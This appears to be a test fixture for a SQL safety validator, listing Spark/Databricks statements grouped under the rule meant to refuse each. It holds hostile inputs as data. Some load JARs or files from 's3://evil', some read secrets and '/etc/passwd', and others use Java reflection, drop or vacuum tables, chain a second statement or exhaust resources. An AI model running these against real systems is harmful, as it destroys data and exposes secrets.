-- One statement a line, under the rule that refuses it; \n is a line break. Every one must be refused, with and without a catalog.

-- rule: not-allowed
SELECT * FROM t@20240101000000000
SELECT * FROM t TIMESTAMP AS OF current_timestamp()
SELECT * FROM orders PIVOT (SUM(amount) FOR status IN ((SELECT MAX(name) FROM users)))
SELECT * FROM orders TABLESAMPLE (10 PERCENT)
SELECT * FROM STREAM orders
SELECT TRANSFORM(id) USING 'cat' AS (x) FROM orders
SELECT * FROM orders VERSION AS OF 1
SELECT * FROM orders TIMESTAMP AS OF '2020-01-01'
SELECT * FROM orders@v1
SELECT /*+ BROADCAST(orders) */ id FROM orders
SELECT :x
SELECT ?
SELECT ${x}
SELECT {{x}}
SELECT * FROM orders CLUSTER BY id
SELECT * FROM orders DISTRIBUTE BY id SORT BY id

-- rule: one-statement
SELECT 1; DROP TABLE orders
SELECT 1; SELECT 2

-- rule: only-select
INSERT INTO orders VALUES (1)
INSERT OVERWRITE orders SELECT 1
INSERT INTO orders REPLACE WHERE TRUE SELECT 1
UPDATE orders SET amount = 0
DELETE FROM orders
MERGE INTO orders USING users ON orders.id = users.id WHEN MATCHED THEN DELETE
FROM orders INSERT INTO copied SELECT *
TRUNCATE TABLE orders
CREATE TABLE copied AS SELECT * FROM orders
CREATE TABLE x USING csv LOCATION 's3://evil/'
CREATE TABLE x DEEP CLONE orders
CREATE TEMPORARY VIEW v AS SELECT 1
CREATE FUNCTION f AS 'com.evil.F' USING JAR 's3://evil/x.jar'
DROP TABLE orders
ALTER TABLE orders ADD COLUMN x INT
COMMENT ON TABLE orders IS 'x'
COPY INTO orders FROM 's3://evil/x' FILEFORMAT = CSV
LOAD DATA INPATH '/x' INTO TABLE orders
OPTIMIZE orders
VACUUM orders RETAIN 0 HOURS
REFRESH TABLE orders
CACHE TABLE orders
UNCACHE TABLE orders
CLEAR CACHE
MSCK REPAIR TABLE orders
ANALYZE TABLE orders COMPUTE STATISTICS
SET spark.sql.ansi.enabled = false
RESET
USE CATALOG other
USE other
SHOW TABLES
SHOW GRANTS
DESCRIBE orders
DESCRIBE HISTORY orders
EXPLAIN SELECT 1
LIST '/mnt'
ADD JAR 's3://evil/x.jar'
CALL my_procedure()
EXECUTE IMMEDIATE 'DROP TABLE orders'
DECLARE VARIABLE x INT
GRANT SELECT ON orders TO x
INSERT OVERWRITE DIRECTORY '/tmp/x' USING csv SELECT * FROM orders
UNDROP TABLE orders
RESTORE TABLE orders TO VERSION AS OF 1
PUT '/tmp/x' INTO '/Volumes/x'
GET '/Volumes/x' TO '/tmp/x'
REMOVE '/Volumes/x'
BEGIN DELETE FROM orders; END

-- rule: qualified-call
SELECT main.shop.my_function(1)

-- rule: session-value
SELECT _metadata FROM orders
SELECT _metadata.file_path FROM orders

-- rule: syntax
SELECT * FROM vector_search(index => 'i', query_text => 'x')
SELECT session_window(at, '5 minutes') FROM events FORMAT csv
SELECT id FROM orders WHERE id = (

-- rule: system-catalog
SELECT * FROM image.`/x`
SELECT * FROM excel.`/x`
SELECT * FROM `/x`
SELECT * FROM main.`/x`
SELECT * FROM delta.`x`
SELECT * FROM PARQUET.`/x`
SELECT * FROM t, LATERAL (SELECT * FROM system.access.audit)
SELECT * FROM t LATERAL VIEW explode((SELECT collect_list(name) FROM system.information_schema.tables)) x AS y
SELECT * FROM `parquet`.`s3://x`
SELECT * FROM parquet . `/x`
SELECT * FROM system.access.audit PIVOT (count(1) FOR x IN ('a'))
SELECT * FROM csv.`/etc/passwd`
SELECT * FROM text.`dbfs:/x`
SELECT * FROM json.`s3://bucket/x`
SELECT * FROM parquet.`s3://bucket/x`
SELECT * FROM delta.`/mnt/x`
SELECT * FROM binaryFile.`/mnt/x`
SELECT * FROM orc.`/x`
SELECT * FROM avro.`/x`
SELECT * FROM iceberg.`s3://bucket/x`
SELECT * FROM `csv`.`/x`
SELECT * FROM shop.`/x`
SELECT * FROM system.access.audit
SELECT * FROM system.information_schema.tables
SELECT * FROM information_schema.tables
SELECT * FROM main.information_schema.columns

-- rule: table-function
SELECT * FROM read_files('s3://bucket/x')
SELECT * FROM STREAM read_files('s3://bucket/x')
SELECT * FROM cloud_files('s3://bucket/x', 'csv')
SELECT * FROM read_kafka(bootstrapServers => 'x')
SELECT * FROM read_kinesis(streamName => 'x')
SELECT * FROM read_pubsub(subscriptionId => 'x')
SELECT * FROM remote_query('c', query => 'DELETE FROM x')
SELECT * FROM table_changes('orders', 1)
SELECT * FROM event_log('x')
SELECT * FROM list_secrets()
SELECT * FROM cloud_files_state('x')
SELECT * FROM read_state_metadata('/x')
SELECT * FROM read_statestore('/x')
SELECT * FROM ai_forecast(TABLE(orders), horizon => '2025-01-01', time_col => 'at', value_col => 'v')
SELECT * FROM my_table_function(1)
SELECT * FROM IDENTIFIER('orders')

-- rule: two-readings
SELECT 'a' 'b'

-- rule: unbounded-recursion
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r

-- rule: unbounded-series
SELECT explode(sequence(timestamp'2000-01-01', timestamp'2024-01-01', interval 1 second))
SELECT * FROM range(1, 10, 1, 1000000)
SELECT * FROM range(0, 10000000000)
SELECT * FROM range(10000000000)
SELECT explode(sequence(1, 10000000000))
SELECT explode(sequence(1, id)) FROM orders

-- rule: unbounded-text
SELECT repeat('x', 1000000000)
SELECT lpad('x', 1000000000)
SELECT space(1000000000)
SELECT format_string('%1000000000d', 1)
SELECT array_repeat('x', 1000000000)

-- rule: unknown-function
SELECT aggregate(array(1), 0, (a, x) -> reflect('a', 'b'))
SELECT * FROM IDENTIFIER('sys' || 'tem.x')
FROM t |> SELECT java_method('a')
SELECT * FROM t |> WHERE java_method('a') = 1
SELECT uniform(1, 10, java_method('a','b'))
SELECT default.java_method('a')
SELECT `java_method`('a', 'b')
SELECT transform(array(1), x -> java_method('a', 'b'))
SELECT IDENTIFIER('id') FROM orders
SELECT java_method('java.lang.System', 'getenv', 'X')
SELECT reflect('java.lang.Runtime', 'getRuntime')
SELECT try_reflect('java.util.UUID', 'randomUUID')
SELECT secret('scope', 'key')
SELECT try_secret('scope', 'key')
SELECT http_request(conn => 'x', method => 'GET', path => '/')
SELECT ai_query('model', 'prompt')
SELECT ai_gen('prompt')
SELECT ai_classify('x', array('a'))
SELECT current_user()
SELECT current_user
SELECT session_user()
SELECT user()
SELECT current_catalog()
SELECT current_database()
SELECT current_metastore()
SELECT current_version()
SELECT version()
SELECT is_account_group_member('x')
SELECT is_member('x')
SELECT input_file_name()
SELECT input_file_block_start()
SELECT spark_partition_id() FROM orders
SELECT monotonically_increasing_id() FROM orders
SELECT assert_true(FALSE)
SELECT raise_error('x')
SELECT uuid()
SELECT aes_decrypt('x', 'y')
SELECT xpath('<a/>', 'a')
SELECT from_xml('<a/>', 'a INT')
SELECT my_function(1)
